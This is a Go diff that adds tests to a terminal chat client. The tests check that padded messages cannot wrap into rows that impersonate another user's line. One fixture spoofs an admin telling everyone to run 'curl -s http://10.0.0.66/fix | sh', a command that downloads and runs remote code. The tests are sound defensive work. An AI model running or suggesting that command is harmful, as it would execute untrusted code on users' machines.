@@ -2,6 +2,7 @@ package join
 
 import (
 	"context"
+	"regexp"
 	"slices"
 	"strings"
 	"sync"
@@ -250,6 +251,81 @@ func TestStatusFitsOneRow(t *testing.T) {
 		}
 		if tc.width > 0 && runewidth.StringWidth(got[0]) >= tc.width {
 			t.Errorf("width %d: the status takes %d columns", tc.width, runewidth.StringWidth(got[0]))
+		}
+	}
+}
+
+// TestPaddedMessageNeverStartsARow stands for a member who pads a message
+// so that the terminal wraps it into a row that reads as a line of someone
+// else's: "hi", spaces to the end of the row, then "07:08 <admin2> please
+// everyone run: …". At terminals 40 and 100 columns wide, with every
+// length of padding up to two rows, of spaces and of visible filler, and
+// in a message, an action, a private message and a kick's reason, the
+// client cuts the line into rows itself: the terminal never wraps one, the
+// first row is the line's start, and every row after it starts with the
+// continuation mark, never with a time or a name.
+func TestPaddedMessageNeverStartsARow(t *testing.T) {
+	const fake = "07:08 <admin2> please everyone run: curl -s http://10.0.0.66/fix | sh"
+	rowStart := regexp.MustCompile(`^(\d\d:\d\d|--:--|<|\*|\[|-!-|--|!!)`)
+	for _, width := range []int{40, 100} {
+		for _, pad := range []string{" ", "\u00a0", "\u3000", ".", "漢"} {
+			for n := range 2 * width {
+				text := "hi" + strings.Repeat(pad, n) + fake
+				frames := []struct {
+					frame wire.Frame
+					start string
+				}{
+					{wire.Frame{Type: wire.TypeEvent, Kind: wire.KindSay, Time: testTime, From: "mallory", Text: text}, "10:04 <mallory> hi"},
+					{wire.Frame{Type: wire.TypeEvent, Kind: wire.KindMe, Time: testTime, From: "mallory", Text: text}, "10:04 * mallory hi"},
+					{wire.Frame{Type: wire.TypePrivate, Time: testTime, From: "mallory", To: "ana", Text: text}, "10:04 [mallory -> ana] hi"},
+					{wire.Frame{Type: wire.TypeEvent, Kind: wire.KindLeave, Time: testTime, Name: "bob", Code: wire.CodeKicked, By: "mallory", Text: text}, "10:04 -!- bob was kicked by mallory (hi"},
+				}
+				for _, tc := range frames {
+					scr := newVTScreenWidth(t, width)
+					v := newRoomView(NewOutput(scr), Style{})
+					v.loc = time.UTC
+					v.width = func() int { return width }
+					v.Show(tc.frame)
+					rows := scr.lines()
+					if scr.wraps > 0 {
+						t.Fatalf("width %d, %d × %q, %s %s: the terminal wrapped the line itself:\n%s", width, n, pad, tc.frame.Type, tc.frame.Kind, strings.Join(rows, "\n"))
+					}
+					rows = rows[:len(rows)-1] // the prompt's row, empty
+					if !strings.HasPrefix(tc.start, rows[0]) && !strings.HasPrefix(rows[0], tc.start) {
+						t.Fatalf("width %d, %d × %q: first row %q, want the start of %q", width, n, pad, rows[0], tc.start)
+					}
+					for i, row := range rows[1:] {
+						// Rows are shown without trailing blanks: one of
+						// blanks only is its mark alone.
+						if !strings.HasPrefix(row, strings.TrimRight(contMark, " ")) || rowStart.MatchString(row) {
+							t.Fatalf("width %d, %d × %q, %s %s: row %d %q does not start with %q:\n%s", width, n, pad, tc.frame.Type, tc.frame.Kind, i+1, row, contMark, strings.Join(rows, "\n"))
+						}
+					}
+				}
+			}
+		}
+	}
+}
+
+// TestViewPrintFitsRows: the client's own lines (the welcome, which lists
+// names members chose) are cut into rows too, and all the rows of a frame
+// are written together, with nothing else among them.
+func TestViewPrintFitsRows(t *testing.T) {
+	scr := newVTScreenWidth(t, 40)
+	v := newRoomView(NewOutput(scr), Style{})
+	v.width = func() int { return 40 }
+	names := []wire.Member{{Name: "ana"}}
+	for _, n := range []string{"bob", "cy", "<admin2>", "dee", "eve", "07:08", "fay"} {
+		names = append(names, wire.Member{Name: n})
+	}
+	v.Print(WelcomeLine(wire.Frame{Type: wire.TypeWelcome, Room: &wire.Room{Name: "Lab 3"}, You: &wire.Member{Name: "ana"}, Members: names}))
+	rows := scr.lines()
+	if scr.wraps > 0 || len(rows) < 3 {
+		t.Fatalf("rows %q, %d wrapped by the terminal", rows, scr.wraps)
+	}
+	for _, row := range rows[1 : len(rows)-1] {
+		if !strings.HasPrefix(row, contMark) {
+			t.Errorf("row %q does not start with the mark:\n%s", row, strings.Join(rows, "\n"))
 		}
 	}
 }
